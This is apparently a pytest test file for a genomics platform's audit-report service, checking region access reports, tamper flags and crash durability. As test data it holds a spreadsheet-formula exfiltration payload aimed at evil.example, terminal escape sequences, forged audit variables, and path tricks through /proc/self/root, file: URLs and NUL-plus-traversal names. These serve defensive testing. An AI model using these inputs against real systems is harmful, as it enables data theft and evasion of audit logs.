        assert "syd-cohort" not in render([row], fmt, "norr")


def test_an_access_attributed_to_a_cell_that_never_ran_is_flagged(reported):
    """A cell can set NGP_AUDIT_CELL for a program it starts, so that the program's records name a made-up
    cell. The report cannot show code for it, and says why; the forging cell is flagged for naming
    NGP_AUDIT. An access named for no cell at all (the Jupyter server's own) gets no such flag."""
    alice = Caller("alice", "cardio-gwas")
    forging = "os.environ['NGP_AUDIT_CELL'] = '[\"made-up\", null]'\n!python read.py"
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m-forge", "code": forging}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "made-up"}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz.tbi", "detail": {}},
        {"action": "query.execute", "detail": {"msg_id": "late", "code": "pass"}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "late"}},
    ], None))
    assert "possible tampering" in reported.audit.records(action="query.execute")[-2].detail["flag"]
    rows = region_report(reported.audit, reported, "admin-syd", "syd")
    (forged,) = [r for r in rows if r["detail"].get("msg_id") == "made-up"]
    assert forged["code"] is None and "no execution of this msg_id was recorded" in forged["flag"]
    (server,) = [r for r in rows if r["path"].endswith(".tbi")]
    assert server["flag"] is None
    (late,) = [r for r in rows if r["detail"].get("msg_id") == "late"]
    assert late["code"] == "pass" and late["flag"] is None


@pytest.mark.parametrize("actor", ["alice", "lars", "admin-norr", "olof", "mallory"])
def test_anyone_but_the_regions_admin_is_refused(reported, actor):
    with pytest.raises(RefusedError):
        region_report(reported.audit, reported, actor, "syd")


def test_report_formats(reported):
    rows = region_report(reported.audit, reported, "admin-syd", "syd")
    assert json.loads(render(rows, "json", "syd"))[0]["dataset"] == "syd-cohort"
    assert render(rows, "csv", "syd").splitlines()[0].startswith("time,user,project,region,dataset")
    assert "syd-cohort" in render(rows, "table", "syd")
    assert "<table id='ngp-report'>" in render(rows, "html", "syd")


def test_a_cells_code_cannot_become_a_formula_in_the_csv_report(reported):
    """The code column is the member's own text; a region admin opens the CSV in a spreadsheet."""
    alice = Caller("alice", "cardio-gwas")
    code = '-1+0\n=HYPERLINK("http://evil.example/?" & A1)\nopen("/data/syd/syd-cohort/syd-cohort.vcf.gz")'
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m-csv", "code": code}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/syd-cohort.vcf.gz", "detail": {"msg_id": "m-csv"}}],
        None))
    rows = region_report(reported.audit, reported, "admin-syd", "syd")
    (row,) = [r for r in csv.DictReader(io.StringIO(render(rows, "csv", "syd"))) if r["code"].endswith('.vcf.gz")')]
    assert row["code"] == "'" + code and row["dataset"] == "syd-cohort"
    assert [r["code"] for r in json.loads(render(rows, "json", "syd")) if r["code"] and "HYPERLINK" in r["code"]] == [code]


def test_report_from_the_command_line(reported):
    env = {k: v for k, v in os.environ.items() if not k.startswith("NGP_")}
    env["NGP_HOME"] = str(reported.platform.home_path)
    ngp = [sys.executable, "-m", "ngp_research.cli", "audit", "report"]
    p = subprocess.run(ngp + ["--region", "syd", "--as", "admin-syd", "--format", "csv"], env=env,
                       capture_output=True, text=True)
    assert p.returncode == 0 and "syd-cohort" in p.stdout and "norr-cohort" not in p.stdout
    assert list(csv.reader(io.StringIO(p.stdout)))[-1][1] == "alice"  # no blank row after the last
    p = subprocess.run(ngp + ["--region", "syd", "--as", "alice"], env=env, capture_output=True, text=True)
    assert p.returncode == 2 and "alice is not an admin of region 'syd'" in p.stderr
    # Without --as: NGP_USER says who asks
    p = subprocess.run(ngp + ["--region", "syd", "--format", "json"], env={**env, "NGP_USER": "admin-syd"},
                       capture_output=True, text=True)
    assert p.returncode == 0 and {r["dataset"] for r in json.loads(p.stdout)} == {"syd-cohort"}


def test_a_date_alone_as_until_includes_that_day(reported):
    env = {k: v for k, v in os.environ.items() if not k.startswith("NGP_")}
    env["NGP_HOME"] = str(reported.platform.home_path)
    ngp = [sys.executable, "-m", "ngp_research.cli", "audit", "report", "--region", "syd", "--as", "admin-syd",
           "--format", "json"]
    day = json.loads(subprocess.run(ngp, env=env, capture_output=True, text=True, check=True).stdout)[0]["time"][:10]
    for since, until, n in ((day, day, 1), (day, day + "T00:00:00", 0)):
        p = subprocess.run(ngp + ["--since", since, "--until", until], env=env, capture_output=True, text=True)
        assert p.returncode == 0, p.stderr
        assert len(json.loads(p.stdout)) == n, (since, until)


def test_the_table_report_shows_control_characters_escaped(reported):
    """A member's code or file name cannot drive the region admin's terminal (move the cursor, hide text)."""
    alice = Caller("alice", "cardio-gwas")
    reported.audit.append_many(build_records(alice, [
        {"action": "query.execute", "detail": {"msg_id": "m-esc", "code": "x = 1\r\x1b[8mhidden"}},
        {"action": "file.open", "path": "/data/syd/syd-cohort/a\x1b[2Jb", "detail": {"msg_id": "m-esc"}}], None))
    table = render(region_report(reported.audit, reported, "admin-syd", "syd"), "table", "syd")
    assert "\x1b" not in table and "\r" not in table
    assert "a\\x1b[2Jb" in table and "x = 1\\r\\x1b[8mhidden" in table


def test_a_listing_of_a_regions_folder_is_reported_to_that_region(reported):
    """``/data/syd`` shows which of syd's datasets the workspace has: syd's admin sees who listed it."""
    alice = Caller("alice", "cardio-gwas")
    reported.audit.append_many(build_records(alice, [
        {"action": "file.list", "path": "/data/syd", "detail": {"msg_id": "m1", "event": "os.listdir"}},
        {"action": "file.list", "path": "/data", "detail": {"msg_id": "m1", "event": "os.listdir"}}], None))
    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["action"] == "file.list"]
    assert [(r["path"], r["region"], r["dataset"]) for r in rows] == [("/data/syd", "syd", None)]
    assert not [r for r in region_report(reported.audit, reported, "admin-norr", "norr") if r["path"] == "/data/syd"]


def test_other_names_of_a_datasets_file_are_reported_to_its_region(reported):
    """A process's root folder (``/proc/self/root``, mounted in the sandbox), a ``file:`` URL, and a name
    with a NUL (C reads up to it) all open the region's file: its admin sees each, flagged with the path
    it opens. A path through a process's working folder or open file is flagged where it is stored."""
    alice = Caller("alice", "cardio-gwas")
    f = "/data/syd/syd-cohort/syd-cohort.vcf.gz"
    odd = ["/proc/self/root" + f, "/proc/1/root/proc/thread-self/root" + f, "file://" + f, "file:" + f,
           "/proc/self/task/7/root" + f, "/proc/self/root/.." + f,
           f + "\x00/../../../norr/norr-cohort/x"]
    reported.audit.append_many(build_records(alice, [
        *({"action": "file.open", "path": p, "detail": {"msg_id": "m1"}} for p in odd),
        {"action": "file.open", "paths": odd + [f], "detail": {"msg_id": "m1"}},
        {"action": "file.open", "path": "/proc/self/cwd/x", "detail": {"msg_id": "m1"}},
        {"action": "file.open", "path": "/dev/fd/3/x", "detail": {"msg_id": "m1"}}], None))
    rows = [r for r in region_report(reported.audit, reported, "admin-syd", "syd") if r["action"] == "file.open"]
    assert len(rows) == 1 + 2 * len(odd) + 1  # the fixture's open, each odd name twice, the plain one
    assert all(r["dataset"] == "syd-cohort" for r in rows)
    assert all(f"it opens {f}" in (r["flag"] or "") for r in rows if r["path"].replace("\\x00", "\x00") in odd)
    assert not [r for r in region_report(reported.audit, reported, "admin-norr", "norr") if "syd-cohort" in r["path"]]
    stored = {r.path: r for r in reported.audit.records() if r.path in ("/proc/self/cwd/x", "/dev/fd/3/x")}
    assert all("where it leads is not known" in r.detail["flag"] for r in stored.values()) and len(stored) == 2


def test_a_claim_in_the_detail_is_flagged_whatever_the_top_level_says(service, store):
    for record in ({"action": "file.open", "path": "/project/a", "user": "alice", "detail": {"user": "bob"}},
                   {"action": "file.open", "path": "/project/b", "user": None, "project": None,
                    "detail": {"user": "bob", "project": "rare-disease"}}):
        status, _ = post(service.url, [record])
        assert status == 200
    a, b = store.records()
    assert "payload claimed user 'bob'" in a.detail["flag"] and a.actor == "alice"
    assert "payload claimed user 'bob'" in b.detail["flag"] and "payload claimed project 'rare-disease'" in b.detail["flag"]


def test_the_service_signs_the_head_at_intervals(store):
    """Records acknowledged since the last checkpoint are signed within the interval, not only every
    ``audit_checkpoint_interval`` records or at shutdown."""
    from ngp_research.audit.service import sign_at_intervals

    async def run():
        task = asyncio.ensure_future(sign_at_intervals(store, 0.05, lambda text: None))
        store.append(AuditRecord("file.open", "alice", path="/project/a"))  # the first append: anchored
        store.append_many([AuditRecord("file.open", "alice", path=f"/project/{i}") for i in range(3)])
        assert store.checkpoints()[-1].seq == 1
        for _ in range(100):
            await asyncio.sleep(0.05)
            if store.checkpoints()[-1].seq == 4:
                break
        task.cancel()

    asyncio.run(run())
    assert store.checkpoints()[-1].seq == 4 and store.verify().ok


SERVICE_SCRIPT = r"""
import asyncio, os, sys
from ngp_research.audit import AuditRecord, AuditStore
from ngp_research.audit.service import Caller, ServiceContext, listen_unix, make_app
from ngp_research.platform import Platform

async def auth(token):
    return {"tok-alice": Caller("alice", "cardio-gwas")}.get(token)

async def main():
    store = AuditStore.for_platform(Platform())
    ctx = ServiceContext(store, auth)
    ctx.committer.start()
    server = make_app(ctx, "/services/audit/").listen(int(sys.argv[1]), "127.0.0.1")
    if os.environ.get("NGP_AUDIT_SOCKET"):  # also on a unix socket, as the hub-managed service is
        server.add_socket(listen_unix(os.environ["NGP_AUDIT_SOCKET"]))
    print("ready", flush=True)
    await asyncio.Event().wait()

asyncio.run(main())
"""


def start_service(port, home, unix_socket=None):
    """SERVICE_SCRIPT in its own process on ``port`` (and on ``unix_socket`` when given), its store under
    ``home``; returned once it listens."""
    env = {**os.environ, "NGP_HOME": str(home)}
    env.pop("NGP_AUDIT_SOCKET", None)
    if unix_socket:
        env["NGP_AUDIT_SOCKET"] = str(unix_socket)
    p = subprocess.Popen([sys.executable, "-c", SERVICE_SCRIPT, str(port)], env=env, stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "ready"
    return p


@pytest.mark.parametrize("backend", ["sqlite"])
def test_sigkill_under_load_loses_no_acknowledged_record(platform, tmp_path):
    def start(port):
        return start_service(port, platform.home_path)

    port = free_port()
    proc = start(port)
    url = f"http://127.0.0.1:{port}/services/audit/"
    acked, stop = [], threading.Event()
    lock = threading.Lock()

    def writer(i):
        n = 0
        while not stop.is_set():
            try:
                status, ack = post(url, [{"action": "file.open", "path": f"/project/w{i}/{n}"}])
            except OSError:
                return
            if status == 200:
                with lock:
                    acked.append((ack["first_seq"], f"/project/w{i}/{n}"))
            n += 1

    threads = [threading.Thread(target=writer, args=(i,)) for i in range(50)]
    for t in threads:
        t.start()
    time.sleep(3)
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    stop.set()
    for t in threads:
        t.join(30)
    assert len(acked) > 100
    proc = start(port)  # the service comes back; the store is the same
    try:
        store = AuditStore.for_platform(platform)
        stored = {r.seq: r.path for r in store.records()}
        missing = [(seq, path) for seq, path in acked if stored.get(seq) != path]
        assert missing == []
        assert store.verify().ok, store.verify().problems
        store.engine.dispose()
    finally:
        proc.kill()
        proc.wait()


def test_code_that_is_not_text_is_refused(service, store):
    status, body = post(service.url, [{"action": "query.execute", "detail": {"code": {"x": 1}}}])
    assert status == 400 and "detail.code must be a string" in body["error"]
    assert store.records() == []


def test_cells_that_reach_into_the_interpreter_are_flagged(service, store):
    status, _ = post(service.url, [{"action": "query.execute",
                                    "detail": {"code": "import gc\n[o for o in gc.get_objects()]", "msg_id": "x"}}])
    assert status == 200
    assert "possible tampering" in store.records()[-1].detail["flag"]


def test_a_token_that_names_no_workspace_is_flagged(service, store):
    status, _ = post(service.url, [{"action": "file.open", "path": "/project/x"}], token="tok-lars-user")
    assert status == 200 and "the token names no workspace" in store.records()[-1].detail["flag"]


def test_a_non_member_named_by_a_token_is_flagged():
    rec = build_record(Caller("bob", "cardio-gwas"), {"action": "file.open", "path": "/project/x"}, None,
                       members={"alice", "lars"})
    assert "bob is not a member of project 'cardio-gwas'" in rec.detail["flag"]


def test_a_later_record_reusing_a_cells_msg_id_cannot_change_the_code_shown(reported):
    from ngp_research.audit.service import Caller as C

    forged = build_record(C("alice", "cardio-gwas"),
                          {"action": "query.execute", "detail": {"msg_id": "m1", "code": "print('QC plot')"}}, None)
    reported.audit.append(forged)
    (row,) = region_report(reported.audit, reported, "admin-syd", "syd")
    assert row["code"] == "open('/data/syd/syd-cohort/syd-cohort.vcf.gz')"
    assert "another record reused this cell's msg_id" in row["flag"]


def test_a_path_that_is_not_utf8_is_stored_escaped_and_flagged(service, store):
    """A file name with bytes that are not UTF-8 reaches Python as surrogate escapes; refusing its record
    would block the kernel for good, storing it raw would fail the transaction."""
    status, ack = post(service.url, [{"action": "file.open", "paths": ["/project/caf\udce9", "/project/ok"]},
                                     {"action": "data.open", "path": "/project/nul\x00", "detail": {"x": "\ud800"}}])
    assert status == 200 and ack["acknowledged"] == 3
    recs = store.records()
    assert [r.path for r in recs] == ["/project/caf\\xe9", "/project/ok", "/project/nul\\x00"]
    assert "not valid UTF-8" in recs[0].detail["flag"] and "flag" not in recs[1].detail
    assert recs[2].detail["x"] == "\\ud800" and "escaped" in recs[2].detail["flag"]
    assert store.verify().ok


def test_a_request_that_cannot_be_stored_does_not_fail_the_others_in_its_transaction():
    from ngp_research.audit.records import AuditRecord
    from ngp_research.audit.service import GroupCommitter

    class Store:
        def __init__(self):
            self.rows = []

        def append_many(self, records):
            if any(r.path == "/project/poison" for r in records):
                raise RuntimeError("the database refused it")
            self.rows += records
            return [type("S", (), {"seq": len(self.rows)})() for _ in records]

    async def run():
        committer = GroupCommitter(Store())
        good = [AuditRecord("file.open", "bob", path="/project/fine")]
        bad = [AuditRecord("file.open", "alice", path="/project/poison")]
        # both are queued before the committer takes its first batch: one transaction, which fails
        results = asyncio.gather(committer.submit(bad), committer.submit(good), return_exceptions=True)
        committer.start()
        out = await results
        committer.task.cancel()
        return out, committer.store.rows

    (bad_result, good_result), rows = asyncio.run(run())
    assert isinstance(bad_result, RuntimeError)
    assert len(good_result) == 1 and [r.path for r in rows] == ["/project/fine"]


def test_a_request_with_too_many_paths_is_refused_before_anything_is_built(service, store, monkeypatch):
    import ngp_research.audit.service as svc

    built = []
    monkeypatch.setattr(svc, "build_records", lambda *a, **k: built.append(1) or [])
    status, body = post(service.url, [{"action": "file.open", "paths": ["/p"] * 3000},
                                      {"action": "file.open", "paths": ["/p"] * 3000}])
    assert status == 400 and "at most 5000" in body["error"] and not built


def test_runs_of_places_agrees_with_resolving_path_by_path():
    """The service's quick pass over a run of paths groups them exactly as storable+resolve do one by one."""
    import random

    from ngp_research.audit.service import _runs_path_by_path, runs_of_places

    pool = ["/data/syd/syd-cohort/a.vcf.gz", "/data/syd/syd-cohort", "/data/syd", "/data/norr/norr-cohort/x",
            "/data/" + "r" * 65 + "/d/x", "/data/r/" + "d" * 129 + "/x", "/data/r/d/caf\u00e9", "/project/notes.txt",
            "/home/alice/x", "/dataset/x", "/data", "/tmp/f", "/data/r/d/x y\"q\\z"]
    odd = ["/project/../data/syd/syd-cohort/x", "/data/syd/syd-cohort/", "/data//syd/syd-cohort/x", "relative",
           "/project/nul\x00", "/project/caf\udce9", "/p\n/data/syd/syd-cohort/x", "/data/./syd/d/x"]
    rng = random.Random(7)
    for n in range(300):
        paths = [rng.choice(pool) for _ in range(rng.randint(1, 12))]
        if n % 3 == 0:
            paths.insert(rng.randint(0, len(paths)), rng.choice(odd))
        assert runs_of_places(paths) == _runs_path_by_path(paths), paths
